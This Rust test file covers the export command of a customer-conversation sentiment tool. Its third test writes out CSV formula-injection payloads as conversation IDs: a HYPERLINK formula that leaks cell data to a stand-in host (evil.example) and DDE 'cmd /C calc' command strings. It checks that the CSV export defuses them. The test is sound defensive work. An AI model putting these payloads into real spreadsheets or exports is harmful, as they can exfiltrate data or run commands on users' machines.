use crate::helpers::*;

#[test]
fn export_writes_one_row_per_conversation_in_each_format() {
    let sb = Sandbox::new();
    let file = sb.write("a.csv", to_csv(&conversations(9)));
    let run = sb.analyze(&file);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let id = run.json()["upload_id"].as_str().unwrap().to_string();

    let out = sb.path("results.csv");
    let run = sb.run(&[
        "export",
        "--format",
        "csv",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut reader = csv::Reader::from_path(&out).unwrap();
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        powerpulse::export::CSV_HEADER
    );
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 9);
    assert!(
        rows.iter()
            .all(|r| &r[0] == id.as_str() && &r[11] == "analyzed")
    );
    assert!(
        rows.iter()
            .all(|r| ["positive", "neutral", "negative"].contains(&&r[4]))
    );

    let run = sb.run(&["export", "--format", "json", "--upload", &id]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let v = run.json();
    assert_eq!(v.as_array().unwrap().len(), 9);
    assert!(v[0]["satisfaction_score"].as_u64().is_some());

    let run = sb.run(&["export", "--format", "jsonl"]);
    assert_eq!(run.stdout.lines().count(), 9);
}

#[test]
fn export_of_an_unknown_upload_or_missing_database_is_an_error() {
    let sb = Sandbox::new();
    let run = sb.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("no database"), "{}", run.stderr);

    let file = sb.write("a.csv", to_csv(&conversations(1)));
    assert_eq!(sb.analyze(&file).code, 0);
    let run = sb.run(&["export", "--upload", "00000000-0000-0000-0000-000000000001"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("not found"), "{}", run.stderr);
}

#[test]
fn csv_export_neutralises_formulas_and_json_stays_exact() {
    let sb = Sandbox::new();
    let ids = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-42",
        "plain-id",
    ];
    let mut rows = Vec::new();
    for id in ids {
        for (role, text) in [
            ("customer", "=1+1 my bill is wrong"),
            ("agent", "Fixed, sorry."),
        ] {
            rows.push([
                id.to_string(),
                role.to_string(),
                text.to_string(),
                String::new(),
            ]);
        }
    }
    let file = sb.write("hostile.csv", to_csv(&rows));
    let run = sb.analyze(&file);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let run = sb.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let mut exported: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[1].to_string())
        .collect();
    exported.sort();
    let mut expected = vec![
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")".to_string(),
        "'+cmd|' /C calc'!A0".to_string(),
        "'@SUM(1+1)*cmd|' /C calc'!A0".to_string(),
        "'-2+3+cmd|' /C calc'!A0".to_string(),
        "-42".to_string(),
        "plain-id".to_string(),
    ];
    expected.sort();
    assert_eq!(exported, expected, "{}", run.stdout);
    // No cell of the raw text starts a formula (sentiment scores are numbers).
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for (i, cell) in record.iter().enumerate() {
            let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!risky, "column {i}: {cell:?}");
        }
    }

    for format in ["json", "jsonl"] {
        let run = sb.run(&["export", "--format", format]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let values: Vec<serde_json::Value> = if format == "json" {
            serde_json::from_str(&run.stdout).unwrap()
        } else {
            run.stdout
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        let mut got: Vec<String> = values
            .iter()
            .map(|v| v["conversation_id"].as_str().unwrap().to_string())
            .collect();
        got.sort();
        let mut want: Vec<String> = ids.iter().map(|s| s.to_string()).collect();
        want.sort();
        assert_eq!(got, want, "{format}");
    }
}
